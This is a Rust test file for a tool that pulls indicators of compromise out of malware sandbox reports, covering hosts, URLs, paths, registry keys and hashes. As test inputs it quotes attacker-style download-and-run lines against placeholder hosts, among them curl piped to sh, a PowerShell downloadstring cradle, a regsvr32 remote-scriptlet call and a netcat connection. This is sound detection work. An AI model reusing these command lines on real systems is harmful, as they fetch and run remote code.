use super::super::ATTRIBUTES;
use super::super::attributes::ValueMeaning;
use super::*;
use crate::report::Section;

impl Indicators {
    /// Those of a whole report.
    pub(crate) fn of(
        report: &Report,
        mark: &dyn Fn(RowPlace) -> Option<Severity>,
        cancel: &Cancel,
    ) -> io::Result<Self> {
        Self::among(report, &|section| 0..report.section(section).map_or(0, Section::len), mark, cancel)
    }
}

fn found(json: &str) -> Vec<String> {
    let found = Indicators::of(&Report::of_json(json), &|_| None, &Cancel::default()).unwrap();
    found.found.iter().map(|i| format!("{} {} {}", i.kind.name(), i.value.visible(), i.seen)).collect()
}

#[test]
fn every_kind_has_a_source_attribute() {
    let sources: Vec<_> = ATTRIBUTES.iter().flat_map(|attribute| &attribute.holds).collect();
    for kind in Kind::ALL {
        assert!(
            kind == Kind::Mail || sources.iter().any(|source| source.meaning == ValueMeaning::Is(kind)),
            "{kind:?}"
        );
    }
}

#[test]
fn each_indicator_is_listed_once_with_its_count() {
    let hash = "AB".repeat(32);
    let json = format!(
        r#"{{"files_opened":["C:\\a b","C:\\a b",""],"files_dropped":[{{"path":"C:\\a b","sha256":"{hash}"}}],
        "dns_lookups":[{{"hostname":"C2.Example.","resolved_ips":["192.0.2.7","no address"]}}],
        "http_conversations":[{{"url":"https://u:p@c2.example:8443/x?y"}},{{"url":"no url"}},{{"url":"http://[2001:DB8::1]:80/"}}],
        "ip_traffic":[{{"destination_ip":"192.0.2.7"}}],"mutexes_created":["Global\\m"],"tls":[{{"sni":"203.0.113.5"}}],
        "registry_keys_set":[{{"key":"HKCU\\Run","value":"\"C:\\Program Files\\x.exe\" /q"}}],"modules_loaded":["1.2.3.4"],
        "command_executions":["curl http://d.example/f -o C:\\t.exe, mail 4BrL.1/me@m.example to 198.51.100.2:443 v1.2"]}}"#
    );
    assert_eq!(
        found(&json),
        [
            format!("hash {} 1", hash.to_lowercase()),
            "host c2.example 2".to_owned(),
            "host d.example 1".to_owned(),
            "address 192.0.2.7 2".to_owned(),
            "address 2001:db8::1 1".to_owned(),
            "address 203.0.113.5 1".to_owned(),
            "address 198.51.100.2 1".to_owned(),
            "url https://u:p@c2.example:8443/x?y 1".to_owned(),
            "url http://[2001:DB8::1]:80/ 1".to_owned(),
            "url http://d.example/f 1".to_owned(),
            "mail me@m.example 1".to_owned(),
            r"path C:\a b 3".to_owned(),
            r"path C:\Program Files\x.exe 1".to_owned(),
            r"path C:\t.exe 1".to_owned(),
            r"key HKCU\Run 1".to_owned(),
            r"mutex Global\m 1".to_owned(),
        ]
    );
}

fn named(text: &str) -> Vec<String> {
    let command = serde_json::to_string(text).unwrap();
    found(&format!(r#"{{"command_executions":[{command}]}}"#))
        .iter()
        .map(|found| found[..found.len() - 2].to_owned())
        .collect()
}

#[test]
fn url_is_cut_out_of_the_surrounding_text() {
    let urls = |text| {
        let found = named(text).into_iter();
        found.filter_map(|found| found.strip_prefix("url ").map(str::to_owned)).collect::<Vec<_>>()
    };
    for (text, wanted) in [
        ("regsvr32 /s /n /u /i:http://c2.example/a.sct scrobj.dll", &["http://c2.example/a.sct"][..]),
        ("script:http://c2.example/a -uri:https://d.example/b", &["http://c2.example/a", "https://d.example/b"]),
        (
            "&http://c2.example/ [http://d.example/x] *1http://e.example",
            &["http://c2.example/", "http://d.example/x", "http://e.example"],
        ),
        ("http://c2.example/a?b=1,2;c=(3)&d={4}", &["http://c2.example/a?b=1,2;c=(3)&d={4}"]),
        (r#"cmd /c "start \"http://c2.example/x\"""#, &["http://c2.example/x"]),
        ("iex((new-object net.webclient).downloadstring('http://c2.example/x'))", &["http://c2.example/x"]),
        (
            "curl http://c2.example/x|sh; curl http://d.example/y&start z",
            &["http://c2.example/x", "http://d.example/y"],
        ),
        (
            "http://a.example/1@http://b.example/2@http://c.example/3",
            &["http://a.example/1", "http://b.example/2", "http://c.example/3"],
        ),
        ("http://a.example/?u=http://b.example/2", &["http://a.example/?u=http://b.example/2", "http://b.example/2"]),
        (r"http:\\c2.example\x", &[r"http:\\c2.example\x"]),
        ("'http://c2.example/'+'x'; http://u:pa'ss@d.example/", &["http://c2.example/", "http://u:pa'ss@d.example/"]),
        ("see http://c2.example/x.", &["http://c2.example/x"]),
        ("gopher://c2.example/x", &["gopher://c2.example/x"]),
        ("://x http:// a:b", &[]),
    ] {
        assert_eq!(urls(text), wanted, "{text}");
    }
}

#[test]
fn host_is_found_with_port_path_or_protocol() {
    for (text, wanted) in [
        ("curl 203.0.113.5/x", "address 203.0.113.5"),
        ("nc tcp:203.0.113.5:4444", "address 203.0.113.5"),
        ("nc [2001:db8::5]:80", "address 2001:db8::5"),
        ("ssh root@203.0.113.5", "address 203.0.113.5"),
        (r"copy \\203.0.113.5\share\x.exe", "address 203.0.113.5"),
        (r"rundll32 \\c2.example@SSL\DavWWWRoot\x.dll,Start", "host c2.example"),
    ] {
        assert!(named(text).contains(&wanted.to_owned()), "{text}: {:?}", named(text));
    }
    let json = r#"{"ids_alerts":[{"alert_context":{"dest_ip":"203.0.113.5:80","hostname":"C2.example:8080"}}],
        "http_conversations":[{"url":"d.example/x"},{"url":"/y"}],"tls":[{"sni":"b\u00fccher.example"}]}"#;
    assert_eq!(
        found(json),
        [
            "host c2.example 1",
            "host d.example 1",
            "host xn--bcher-kva.example 1",
            "address 203.0.113.5 1",
            "url d.example/x 1"
        ]
    );
}

#[test]
fn path_may_begin_with_variable_or_nt_prefix() {
    for (text, wanted) in [
        (r"\??\%USERPROFILE%\AppData\x.sys", r"path %USERPROFILE%\AppData\x.sys"),
        (r"\??\C:\Libs\x.sys", r"path C:\Libs\x.sys"),
        (r"\\?\C:\Libs\x.sys", r"path C:\Libs\x.sys"),
        (r"%ProgramData%\a.dll,Run", r"path %ProgramData%\a.dll"),
        (r"\SystemRoot\System32\x.sys", r"path \SystemRoot\System32\x.sys"),
    ] {
        assert_eq!(named(text), [wanted], "{text}");
    }
    for text in [r"100%\x", r"%\x", r"%a b%\x", r"%TEMP%\", r"\SystemRoot\", r"\??\pipe\x"] {
        assert!(named(text).is_empty(), "{text}: {:?}", named(text));
    }
}

#[test]
fn unquoted_path_with_blanks_is_one_path() {
    for (text, wanted) in [
        (r"C:\Program Files\Common Files\Microsoft Shared\TextConv\Works632.cnv", None),
        (r"C:\Program Files (x86)\Google\Update.exe /c", Some(r"C:\Program Files (x86)\Google\Update.exe")),
        (r"C:\PROGRAM FILES", None),
        (r"\??\C:\Program Files\a b\x.sys", Some(r"C:\Program Files\a b\x.sys")),
        (r"C:\Program Files\my notes.txt", None),
        (r"rundll32.exe C:\Documents and Settings\a\x.dll,Run", Some(r"C:\Documents and Settings\a\x.dll")),
        (r"C:\a\My Folder\b.exe -o D:\c\d", Some(r"C:\a\My Folder\b.exe")),
        (r"C:\a\tool.exe sub\dir", Some(r"C:\a\tool.exe")),
        (r"C:\a\tool /x sub\dir", Some(r"C:\a\tool")),
        (r"C:\a\tool arg", Some(r"C:\a\tool")),
    ] {
        assert_eq!(named(text)[0], format!("path {}", wanted.unwrap_or(text)), "{text}");
    }
    assert_eq!(named(r"C:\a b\c.exe D:\d e\f.exe"), [r"path C:\a b\c.exe", r"path D:\d e\f.exe"]);
}

#[test]
fn a_module_counts_by_its_path_and_a_row_once() {
    let json = r#"{"modules_loaded":["KERNEL32.dll","C:\\a b\\evil.dll","\\??\\C:\\A B\\evil.dll"],
        "ids_alerts":[{"alert_context":{"hostname":"c2.example","url":"http://c2.example/x"}}]}"#;
    let same = r#"{"files_opened":["\\??\\C:\\a.sys","\\??\\UNC\\s.example\\b"],"command_executions":["C:\\a.sys \\??\\UNC\\s.example\\b"]}"#;
    assert_eq!(found(same), ["host s.example 1", r"path C:\a.sys 2", r"path \??\UNC\s.example\b 2"]);
    assert_eq!(found(json), ["host c2.example 1", "url http://c2.example/x 1", r"path C:\a b\evil.dll 2"]);
}

#[test]
fn only_the_remote_host_of_an_alert_counts() {
    let alert = |from: &str, to: &str| {
        found(&format!(r#"{{"ids_alerts":[{{"alert_context":{{"src_ip":"{from}","dest_ip":"{to}"}}}}]}}"#))
    };
    assert_eq!(alert("192.168.1.4", "203.0.113.5"), ["address 203.0.113.5 1"]);
    assert_eq!(alert("203.0.113.5", "192.168.1.4"), ["address 203.0.113.5 1"]);
    assert_eq!(alert("198.51.100.2", "203.0.113.5"), ["address 203.0.113.5 1"]);
    assert_eq!(alert("192.168.1.4", "192.168.1.1"), ["address 192.168.1.1 1"]);
}

#[test]
fn nested_urls_are_each_extracted_once() {
    let text = "http://a.b/=".repeat(100_000);
    let found = extract::named(&text);
    assert_eq!(found.len(), 100_000);
    assert_eq!((found[0].1.len(), found[1].1.len()), (text.len(), 12));
    for (word, times) in [(r"\\a\bc ", 1), (r"C:\a b\c ", 1)] {
        assert_eq!(extract::named(&word.repeat(100_000)).len(), 100_000 * times, "{word}");
    }
}

#[test]
fn artifacts_of_sandboxes_are_no_addresses() {
    for text in
        ["a83f:8110:e5c0:7cff::1", "239.255.255.250", "255.255.255.255", "255.255.0.0", "ff02::1", "0.0.0.1", "**ip**"]
    {
        assert!(found(&format!(r#"{{"ip_traffic":[{{"destination_ip":"{text}"}}]}}"#)).is_empty(), "{text}");
    }
    let why = |kind, value: &str| Indicator::new(kind, Untrusted::from(value)).why_not_public();
    assert!(["203.0.113.5", "2a02:1::1"].iter().all(|public| why(Kind::Address, public).is_none()));
    assert_eq!(["8.8.8.8", "2620:fe::fe"].map(|value| why(Kind::Address, value)), [Some("it is a public resolver"); 2]);
    let local = Some("it is a private or reserved address");
    assert_eq!(["192.168.0.14", "fe80::1"].map(|value| why(Kind::Address, value)), [local; 2]);
    let public = Some("it is not a public host");
    assert_eq!((why(Kind::Url, "http://10.0.0.1/"), why(Kind::Host, "nas.lan")), (local, public));
}

#[test]
fn binary_values_and_copies_add_no_indicators() {
    let json = r#"{"registry_keys_set":[{"key":"HKCU\\a","value":"0123456789ABCDEF0123456789ABCDEF"},
        {"key":"<HKCU>\\A","value":"http://c2.example/x\u0000"},{"key":"\\REGISTRY\\MACHINE\\b","value":"C:\\Users\\<USER>\\x.exe"}],
        "files_copied":[{"source":"C:\\a.exe ","destination":"C:\\a.exe"}],
        "text_highlighted":["storage file://./c/users/<USER>/x.xp3", "http://c2.example$/ see"]}"#;
    assert_eq!(
        found(json),
        [
            "host c2.example 1",
            "url http://c2.example/x 1",
            r"path C:\Users\*\x.exe 1",
            r"path C:\a.exe 1",
            r"key HKCU\a 2",
            r"key \REGISTRY\MACHINE\b 1"
        ]
    );
}

#[test]
fn strings_from_memory_are_a_kind_of_their_own() {
    let json = r#"{"memory_pattern_urls":["http://l"],"memory_pattern_domains":["c2.example"],"memory_pattern_ips":["203.0.113.5"],
        "signature_matches":[{"description":"URLs found in memory","match_data":["ftp://ftp.l(-Z"]},
            {"description":"Downloads","match_data":["http://d.example/x"]}]}"#;
    let is_memory = |found: &&String| found.starts_with("memory ");
    let found = found(json);
    assert_eq!(found.iter().filter(is_memory).count(), 4);
    assert_eq!(found[..2], ["host d.example 1", "url http://d.example/x 1"]);
}

#[test]
fn context_and_tls_name_files_and_fingerprints() {
    let hash = "ab".repeat(32);
    let print = "cd".repeat(20);
    let json = format!(
        r#"{{"data":{{"attributes":{{"tls":[{{"thumbprint":"{print}","ja3":"{0}","ja3s":"{0}","ja4":"t13d_a"}}]}},
        "context_attributes":{{"sha256":"{hash}","names":["evil.exe"]}}}}}}"#,
        &print[..32]
    );
    let mut wanted = vec![format!("hash {hash} 1"), "path evil.exe 1".to_owned(), format!("certificate {print} 1")];
    wanted.extend([format!("ja3 {} 1", &print[..32]), format!("ja3s {} 1", &print[..32]), "ja4 t13d_a 1".to_owned()]);
    assert_eq!(found(&json), wanted);
}

#[test]
fn host_mark_extends_to_its_exclusive_addresses() {
    let json = r#"{"dns_lookups":[{"hostname":"c2.example","resolved_ips":["203.0.113.5","203.0.113.6"]},
        {"resolved_ips":["203.0.113.6"],"hostname":"other.example"}],"ids_alerts":[{"alert_context":{"hostname":"c2.example"}}]}"#;
    let report = Report::of_json(json);
    let alerts = report.index.sections.iter().position(|section| section.name == Untrusted::from("ids_alerts"));
    let mark = |place: RowPlace| (Some(place.section) == alerts).then_some(Severity::High);
    let found = Indicators::of(&report, &mark, &Cancel::default()).unwrap();
    let marked: Vec<_> = found.of_kind(Kind::Address).iter().map(|found| found.marked().is_some()).collect();
    assert_eq!(marked, [true, false]);
}

#[test]
fn decoded_commands_yield_indicators() {
    let hidden = "FromBase64String('aHR0cDovL2V2aWwuZXhhbXBsZS9h')";
    let json = |seen: &str| format!(r#"{{"processes_tree":[{{"name":"{hidden}"}}],"command_executions":["{seen}"]}}"#);
    for (seen, is_decoded) in [("x", true), ("http://evil.example/a", false)] {
        let report = Report::of_json(&json(seen));
        let all = Indicators::of(&report, &|_| None, &Cancel::default()).unwrap();
        let urls: Vec<_> = all.of_kind(Kind::Url).iter().map(|url| (url.value.as_bytes(), url.is_decoded)).collect();
        assert_eq!(urls, [(&b"http://evil.example/a"[..], is_decoded)]);
    }
}
